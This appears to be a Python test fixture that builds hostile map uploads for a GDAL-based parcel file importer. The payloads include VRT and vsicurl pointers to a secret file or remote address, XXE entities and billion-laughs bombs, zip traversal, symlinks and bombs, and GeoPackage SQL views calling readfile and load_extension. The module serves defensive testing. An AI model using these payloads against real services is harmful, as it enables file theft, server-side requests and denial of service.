"""Files that try to read what they should not, to reach the network, or to use up the computer."""

import gzip
import io
import json
import sqlite3
import struct
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.maps.parcel_files import sample_files

SUFFIXES = (
    ".geojson", ".json", ".topojson", ".kml", ".kmz", ".gml", ".xml", ".csv", ".txt", ".tsv", ".gpkg", ".shp", ".dbf",
    ".fgb", ".parquet", ".xls", ".xlsx", ".zip", ".gdb", "",
)  # fmt: skip


@dataclass(frozen=True)
class Prey:
    """What the files are after: a secret file on this computer, and an address where somebody listens."""

    secret: Path
    address: str


@dataclass(frozen=True)
class Hostile:
    """A hostile file: the name it was uploaded under, and its bytes."""

    name: str
    data: bytes


def pointers(prey: Prey) -> dict[str, bytes]:
    """Give texts by which GDAL opens other files or addresses, if it is let."""
    opened = f"<SrcDataSource relativeToVRT='0'>{prey.secret}</SrcDataSource>"
    fetched = f"<SrcDataSource>/vsicurl/{prey.address}/parcels.csv</SrcDataSource>"
    layer = "<OGRVRTLayer name='secret'>{}<SrcLayer>secret</SrcLayer></OGRVRTLayer>"
    step = f"gdal vector pipeline ! read {prey.secret} ! write --of=stream streamed"
    return {
        "vrt": f"<OGRVRTDataSource>{layer.format(opened)}</OGRVRTDataSource>".encode(),
        "vrt_vsicurl": f"<OGRVRTDataSource>{layer.format(fetched)}</OGRVRTDataSource>".encode(),
        "vrt_in_kml_clothes": f"<!-- <kml> --><OGRVRTDataSource>{layer.format(opened)}</OGRVRTDataSource>".encode(),
        "gdalg": json.dumps({"type": "gdal_streamed_alg", "command_line": step}).encode(),
        "gdalg_as_collection": json.dumps(
            {"type": "gdal_streamed_alg", "command_line": step, "features": [], "x": '"type":"FeatureCollection"'}
        ).encode(),
        "wfs": f"<OGRWFSDataSource><URL>{prey.address}/wfs?</URL></OGRWFSDataSource>".encode(),
        "oapif": f"OAPIF:{prey.address}/collections".encode(),
        "raster_vrt": f"<VRTDataset rasterXSize='1' rasterYSize='1'><SRS>{prey.secret}</SRS></VRTDataset>".encode(),
        "pg": b"PG:host=127.0.0.1 dbname=parcels",
        "carto": f"<GDAL_WMS><Service name='TMS'><ServerUrl>{prey.address}</ServerUrl></Service></GDAL_WMS>".encode(),
    }


def disguised(prey: Prey) -> Iterator[tuple[str, Hostile]]:
    """Give every pointer under every suffix, loose, in a zip and in a gzip."""
    for kind, data in pointers(prey).items():
        for suffix in SUFFIXES:
            yield f"{kind} as {suffix or 'nothing'}", Hostile(f"parcels{suffix}", data)
        for suffix in (".geojson", ".kml", ".csv", ".shp", ".gpkg", ".vrt"):
            member = sample_files.zipped({f"parcels{suffix}": data, "parcels.dbf": data, "parcels.prj": data})
            yield f"{kind} as {suffix} in a zip", Hostile("parcels.zip", member)
        yield f"{kind} in a gzip", Hostile("parcels.geojson.gz", gzip.compress(data))


def xml_attacks(prey: Prey) -> dict[str, Hostile]:
    """Give KML and GML that bring in other files, addresses, or endless text."""
    steals = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{prey.secret}">]>'
    fetches = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{prey.address}/x">]>'
    parameter = f'<!DOCTYPE kml [<!ENTITY % p SYSTEM "{prey.address}/p.dtd"> %p;]>'
    external = f'<!DOCTYPE kml SYSTEM "{prey.address}/kml.dtd">'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE kml [<!ENTITY l0 "ha">{laughs}]>'
    link = f"<NetworkLink><Link><href>{prey.address}/more.kml</href></Link></NetworkLink>"
    near = f"<NetworkLink><Link><href>{prey.secret}</href></Link></NetworkLink>"
    schema = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://ogr.maptools.org/ {}"'
    href = '<ogr:other xlink:href="{}"/>'
    attacks: dict[str, Hostile] = {}
    for name, write in (("kml", sample_files.kml), ("gml", sample_files.gml)):
        attacks |= {
            f"{name} entity of a file": Hostile(f"a.{name}", write(steals, "&x;")),
            f"{name} entity of an address": Hostile(f"a.{name}", write(fetches, "&x;")),
            f"{name} parameter entity": Hostile(f"a.{name}", write(parameter)),
            f"{name} document type elsewhere": Hostile(f"a.{name}", write(external)),
            f"{name} billion laughs": Hostile(f"a.{name}", write(bomb, "&l11;")),
            f"{name} entity in UTF-16": Hostile(
                f"a.{name}", write(steals, "&x;").decode().replace("UTF-8", "UTF-16").encode("utf-16")
            ),
            f"{name} unknown entity": Hostile(f"a.{name}", write(owner="&nothing;")),
            f"{name} nested deeply": Hostile(f"a.{name}", write(owner="<a>" * 50_000 + "</a>" * 50_000)),
            f"{name} gzipped entity": Hostile(f"a.{name}.gz", gzip.compress(write(steals, "&x;"))),
        }
    return attacks | {
        "kml link to an address": Hostile("a.kml", sample_files.kml(more=link)),
        "kml link to a file": Hostile("a.kml", sample_files.kml(more=near)),
        "kmz link to an address": Hostile("a.kmz", sample_files.zipped({"doc.kml": sample_files.kml(more=link)})),
        "gml schema at an address": Hostile(
            "a.gml", sample_files.gml(attributes=schema.format(f"{prey.address}/a.xsd"))
        ),
        "gml schema in a file": Hostile("a.gml", sample_files.gml(attributes=schema.format(prey.secret))),
        "gml link to an address": Hostile("a.gml", sample_files.gml(more=href.format(f"{prey.address}/a.gml#x"))),
        "gml link to a file": Hostile("a.gml", sample_files.gml(more=href.format(f"file://{prey.secret}#x"))),
    }


def zip_attacks(prey: Prey) -> dict[str, Hostile]:
    """Give zips that lead elsewhere, are too large, or lie about themselves."""
    good = {"lots.geojson": sample_files.geojson()}
    zeros = b"\x00" * (200 * 2**20)
    names = {
        "path upwards": "../../lots.csv", "absolute path": f"{prey.secret}", "backslashes": "..\\..\\lots.csv",
        "drive": "C:/lots.csv", "device": "con.csv", "device in a folder": "a/NUL/lots.csv",
    }  # fmt: skip
    attacks = {label: sample_files.zipped({**good, name: b"pin\n1\n"}) for label, name in names.items()}
    attacks |= {
        "bomb of zeros": sample_files.zipped({"lots.csv": zeros}),
        "bomb beside good data": sample_files.zipped({**good, "readme.bin": zeros}),
        "zip in a zip": sample_files.zipped({"inner.zip": sample_files.zipped(good)}),
        "zip in a zip called csv": sample_files.zipped({"inner.csv": sample_files.zipped(good)}),
        "gzip in a zip called csv": sample_files.zipped({"inner.csv": gzip.compress(b"pin\n1\n")}),
        "link": _zip_with_link(str(prey.secret)),
        "link as a part of a Shapefile": _zip_with_link(str(prey.secret), "lots.dbf", {"lots.shp": b"\x00\x00\x27"}),
        "nul in a name": sample_files.zipped({"lots.csv?x": b"pin\n1\n"}).replace(b"lots.csv?x", b"lots.csv\x00x"),
        "too many members": sample_files.zipped({f"{n}.csv": b"" for n in range(20_001)}),
        "lies about its size": _lying_zip(),
        "empty": sample_files.zipped({}),
        "only pictures": sample_files.zipped({"a.jpg": b"\xff\xd8\xff"}),
        "ends early": sample_files.zipped(good)[:-30],
        "central directory only": sample_files.zipped(good)[-100:],
        "locked": _locked_zip(),
        "strange compression": sample_files.zipped(good).replace(b"PK\x01\x02", b"PK\x01\x02", 1).replace(
            struct.pack("<HH", 0, 8), struct.pack("<HH", 0, 99)
        ),
    }  # fmt: skip
    return {f"zip: {label}": Hostile("lots.zip", data) for label, data in attacks.items()} | {
        "gzip bomb": Hostile("lots.csv.gz", gzip.compress(zeros)),
        "gzip in gzip": Hostile("lots.csv.gz", gzip.compress(gzip.compress(b"pin\n1\n"))),
        "gzip ends early": Hostile("lots.csv.gz", gzip.compress(sample_files.csv())[:-20]),
        "xlsx bomb": Hostile("a.xlsx", _patched_workbook("xl/worksheets/sheet1.xml", zeros)),
        "xlsx entity": Hostile("a.xlsx", _patched_workbook("xl/worksheets/sheet1.xml", _workbook_entity(prey))),
        "xlsx far corner": Hostile("a.xlsx", _far_corner()),
        "xlsx without sheets": Hostile("a.xlsx", _patched_workbook("xl/workbook.xml", b"<workbook/>")),
    }


def _zip_with_link(target: str, name: str = "lots.csv", others: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for other, data in (others or {}).items():
            archive.writestr(other, data)
        link = zipfile.ZipInfo(name)
        link.external_attr = 0o120777 << 16
        archive.writestr(link, target)
    return out.getvalue()


def _lying_zip() -> bytes:
    """A zip whose directory says ten bytes for a member of many."""
    honest = sample_files.zipped({"lots.csv": b"pin\n" + b"1\n" * 500_000})
    return honest.replace(struct.pack("<I", 1_000_004), struct.pack("<I", 10))


def _locked_zip() -> bytes:
    data = bytearray(sample_files.zipped({"lots.csv": b"pin\n1\n"}))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    return bytes(data)


def _patched_workbook(member: str, content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(sample_files.workbook())) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    return sample_files.zipped({**members, member: content})


def _workbook_entity(prey: Prey) -> bytes:
    return (
        f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY x SYSTEM "file://{prey.secret}">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
        '<c r="A1" t="inlineStr"><is><t>&x;</t></is></c></row></sheetData></worksheet>'
    ).encode()


def _far_corner() -> bytes:
    sheet = (
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>pin</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row></sheetData></worksheet>'
    )
    return _patched_workbook("xl/worksheets/sheet1.xml", sheet.encode())


def json_attacks(prey: Prey) -> dict[str, Hostile]:
    """Give JSON that is nested, huge, endless or points at files through its coordinate system."""

    def collection(geometry: str = "null", crs: str = "", properties: str = "{}") -> bytes:
        feature = f'{{"type":"Feature","geometry":{geometry},"properties":{properties}}}'
        return f'{{"type":"FeatureCollection",{crs}"features":[{feature}]}}'.encode()

    def named(name: str) -> str:
        return f'"crs":{{"type":"name","properties":{{"name":{json.dumps(name)}}}}},'

    polygon = '{{"type":"Polygon","coordinates":[[{}]]}}'
    texts = {
        "nested arrays": b"[" * 200_000,
        "nested features": b'{"type":"FeatureCollection","features":[' * 50_000,
        "nested properties": collection(properties='{"a":' * 100_000 + "1" + "}" * 100_000),
        "nested coordinates": collection('{"type":"Polygon","coordinates":' + "[" * 90_000 + "]" * 90_000 + "}"),
        "positions that are no numbers": collection(polygon.format("[NaN,NaN],[1,1],[2,2],[NaN,NaN]")),
        "positions at infinity": collection(polygon.format("[Infinity,0],[1,1],[2,2],[1e400,0]")),
        "huge positions": collection(polygon.format("[1e308,0],[1e308,1e308],[-1e308,2],[1e308,0]")),
        "number of a million digits": collection(properties='{"a":' + "9" * 1_000_000 + "}"),
        "text as positions": collection(polygon.format('["a","b"],["c","d"],["e","f"],["a","b"]')),
        "ring of two": collection(polygon.format("[0,0],[1,1]")),
        "shape of an object": collection('{"type":{"a":1},"coordinates":{"b":2}}'),
        "unknown shape": collection('{"type":"Blob","coordinates":[1,2]}'),
        "features that are no list": b'{"type":"FeatureCollection","features":{"a":1}}',
        "features that are no features": b'{"type":"FeatureCollection","features":[1,"a",null,[]]}',
        "five thousand columns": collection(properties=json.dumps({f"c{n}": n for n in range(5_000)})),
        "lone surrogate": collection(properties='{"a":"\\ud800"}'),
        "system from a file": collection(crs=named(f"+init={prey.secret}:1")),
        "system by address": collection(crs=named(f"{prey.address}/crs")),
        "system with a grid": collection(crs=named(f"+proj=longlat +nadgrids={prey.secret} +no_defs")),
        "system of a megabyte": collection(crs=named("GEOGCS[" * 150_000)),
        "linked system": collection(crs=f'"crs":{{"type":"link","properties":{{"href":"{prey.address}"}}}},'),
        "text after the end": sample_files.geojson() + b"}",
        "two documents": sample_files.geojson() + sample_files.geojson(),
    }  # fmt: skip
    topology = json.loads(sample_files.topojson())
    broken = {
        "arcs that are not there": {"objects": {"a": {"type": "Polygon", "arcs": [[99]]}}},
        "arcs that are text": {"arcs": ["a", "b"]},
        "transform of text": {"transform": {"scale": "x", "translate": None}},
        "objects that are a list": {"objects": [1, 2]},
        "arcs to infinity": {"arcs": [[[1e308, 1e308]] * 5] * 3},
    }
    attacks = {f"geojson: {label}": Hostile("a.geojson", data) for label, data in texts.items()}
    attacks |= {
        f"topojson: {label}": Hostile("a.topojson", json.dumps(topology | change).encode())
        for label, change in broken.items()
    }
    esri = json.loads(sample_files.esri_json())
    strange = {
        "system from a file": {"spatialReference": {"wkt": f"+init={prey.secret}:1"}},
        "rings of text": {"features": [{"attributes": {}, "geometry": {"rings": "abc"}}]},
        "attributes of text": {"features": [{"attributes": "x", "geometry": 3}]},
    }
    return attacks | {
        f"esri: {label}": Hostile("a.json", json.dumps(esri | change).encode()) for label, change in strange.items()
    }


def database_attacks(folder: Path, prey: Prey) -> dict[str, Hostile]:
    """Give GeoPackages whose views, triggers and tables do what no table does."""
    good = sample_files.written_by_gdal(folder, "good.gpkg")
    view = "DROP TABLE lots; CREATE VIEW lots AS SELECT 1 AS fid, NULL AS geom, {} AS owner"
    planted = "PRAGMA writable_schema=ON; INSERT INTO sqlite_master VALUES('table','evil','evil',0,"
    changes = {
        "view reads a file": view.format(f"readfile('{prey.secret}')"),
        "view loads an extension": view.format(f"load_extension('{prey.secret}')"),
        "view reads a raster": view.format(f"gdal_get_layer_pixel_value('{prey.secret}', 1, 'georef', 0, 0)"),
        "view asks an address": view.format("ogr_geocode('1 Main St')"),
        "view attaches": view.format(f"(SELECT group_concat(file) FROM pragma_database_list) || '{prey.address}'"),  # noqa: S608 - the attack itself
        "trigger": "CREATE TRIGGER t AFTER INSERT ON lots BEGIN DELETE FROM lots; END",
        "virtual table of a file": planted + f"'CREATE VIRTUAL TABLE evil USING VirtualOGR(''{prey.secret}'')'); "
        "INSERT INTO gpkg_contents(table_name,data_type,identifier,srs_id) VALUES('evil','attributes','evil',0)",
        "csv virtual table": f"{planted}'CREATE VIRTUAL TABLE evil USING csv(filename=''{prey.secret}'')')",
        "shapes of noise": "UPDATE lots SET geom = randomblob(200)",
        "shapes of zeros": "UPDATE lots SET geom = zeroblob(20000000)",
        "system of noise": "UPDATE gpkg_spatial_ref_sys SET definition = hex(randomblob(20000))",
        "system from a file": f"UPDATE gpkg_spatial_ref_sys SET definition = '+init={prey.secret}:1'",  # noqa: S608 - the attack itself
        "no layers": "DELETE FROM gpkg_contents; DELETE FROM gpkg_geometry_columns; DROP TABLE lots",
        "wrong count": "UPDATE gpkg_ogr_contents SET feature_count = 9000000",
        "layer of a strange name": "ALTER TABLE lots RENAME TO 'lo\"ts; --'; "
        "UPDATE gpkg_contents SET table_name='lo\"ts; --'; UPDATE gpkg_geometry_columns SET table_name='lo\"ts; --'",
    }
    return {f"gpkg: {label}": Hostile("a.gpkg", _changed(folder, good, sql)) for label, sql in changes.items()} | {
        "gpkg: header alone": Hostile("a.gpkg", good[:100]),
        "gpkg: no GeoPackage": Hostile("a.gpkg", _plain_database(folder)),
    }


def _changed(folder: Path, good: bytes, sql: str) -> bytes:
    path = folder / "changed.gpkg"
    path.write_bytes(good.replace(b"good", b"lots"))
    database = sqlite3.connect(path)
    for name in ("ST_IsEmpty", "ST_MinX", "ST_MaxX", "ST_MinY", "ST_MaxY"):
        database.create_function(name, 1, lambda _: 0)
    database.executescript(sql)
    database.commit()
    database.close()
    return path.read_bytes()


def _plain_database(folder: Path) -> bytes:
    path = folder / "plain.sqlite"
    path.unlink(missing_ok=True)
    database = sqlite3.connect(path)
    database.execute("CREATE TABLE parcels (pin TEXT)")
    database.commit()
    database.close()
    return path.read_bytes()


def binary_attacks(folder: Path, prey: Prey) -> dict[str, Hostile]:
    """Give binary files with absurd headers and lengths."""
    parts = sample_files.shapefile_parts(folder)
    parquet = sample_files.parquet(folder)
    fgb = sample_files.written_by_gdal(folder, "w.fgb")
    long_row = bytearray(parts[".dbf"])
    long_row[10:12] = b"\xff\xff"
    many_rows = bytearray(parts[".dbf"])
    many_rows[4:8] = b"\xff\xff\xff\x7f"
    huge_shape = bytearray(parts[".shp"])
    huge_shape[100 + 8 + 36 : 100 + 8 + 44] = b"\xff\xff\xff\x7f" * 2

    def shape(**changed: bytes) -> Hostile:
        members = {**parts, **{f".{suffix}": data for suffix, data in changed.items()}}
        return Hostile("a.zip", sample_files.zipped({f"lots{suffix}": data for suffix, data in members.items()}))

    pointer = pointers(prey)["vrt"]
    return {
        "dbf: long rows": shape(dbf=bytes(long_row)),
        "dbf: two billion rows": shape(dbf=bytes(many_rows)),
        "dbf: nothing but a header": shape(dbf=parts[".dbf"][:33]),
        "dbf: alone, long rows": Hostile("a.dbf", bytes(long_row)),
        "shp: two billion parts": shape(shp=bytes(huge_shape)),
        "shp: header only": shape(shp=parts[".shp"][:100]),
        "shp: index of noise": shape(shx=b"\x00\x00\x27\x0a" + b"\xff" * 200),
        "shp: no index": shape(shx=b""),
        "shp: system is a pointer": shape(prj=pointer),
        "shp: system from a file": shape(prj=f"+init={prey.secret}:1".encode()),
        "shp: system by address": shape(prj=prey.address.encode()),
        "shp: encoding is a pointer": shape(cpg=f"/vsicurl/{prey.address}".encode()),
        "parquet: footer of two gigabytes": Hostile("a.parquet", b"PAR1" + b"\x00" * 64 + b"\xff\xff\xff\x7fPAR1"),
        "parquet: footer of noise": Hostile("a.parquet", b"PAR1" + b"\xff" * 500 + b"\xf4\x01\x00\x00PAR1"),
        "parquet: no footer": Hostile("a.parquet", parquet[:-8]),
        "parquet: geo is no JSON": Hostile("a.parquet", parquet.replace(b'"primary_column"', b'"primary_column\\')),
        "parquet: geo without a column": Hostile(
            "a.parquet", parquet.replace(b'"primary_column"', b'"primary_colums"')
        ),
        "fgb: header of four gigabytes": Hostile("a.fgb", fgb[:8] + b"\xff\xff\xff\xff" + fgb[12:]),
        "fgb: magic only": Hostile("a.fgb", fgb[:8]),
        "fgb: noise": Hostile("a.fgb", fgb[:12] + b"\xa5" * 4_000),
        "xls: magic only": Hostile("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 600),
        "xls: zeros": Hostile("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 6_000),
        "a program": Hostile("a.gpkg", b"\x7fELF" + b"\x00" * 400),
        "a picture": Hostile("a.geojson", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40),
        "a web page": Hostile("a.geojson", b"<!DOCTYPE html><html><body>Sign in</body></html>"),
        "nothing": Hostile("a.csv", b""),
        "spaces": Hostile("a.csv", b" \r\n\t " * 100),
        "zeros": Hostile("a.csv", b"\x00" * 10_000),
        "noise": Hostile("a.csv", bytes(range(256)) * 40),
        "one cell of ten megabytes": Hostile("a.csv", b'pin,owner\n1,"' + b"x" * 10_000_000),
        "a quote that never ends": Hostile("a.csv", b'pin,owner\n"1,2\n' + b"3,4\n" * 10_000),
        "a hundred thousand columns": Hostile("a.csv", b",".join(b"c%d" % n for n in range(100_000)) + b"\n1\n"),
    }


def cut_short(folder: Path) -> dict[str, Hostile]:
    """Give a sound file of every format, cut at a half, at nine tenths and just before its end."""
    cuts = {}
    for name, data in sample_files.every_format(folder).items():
        for percent in (50, 90):
            cuts[f"{name} cut at {percent} %"] = Hostile(name, data[: len(data) * percent // 100])
        cuts[f"{name} without its last bytes"] = Hostile(name, data[:-3])
    return cuts


def misnamed(folder: Path) -> dict[str, Hostile]:
    """Give a sound file of every format under the name of another."""
    formats = sample_files.every_format(folder)
    return {f"{name} as .geojson": Hostile("lots.geojson", data) for name, data in formats.items()}
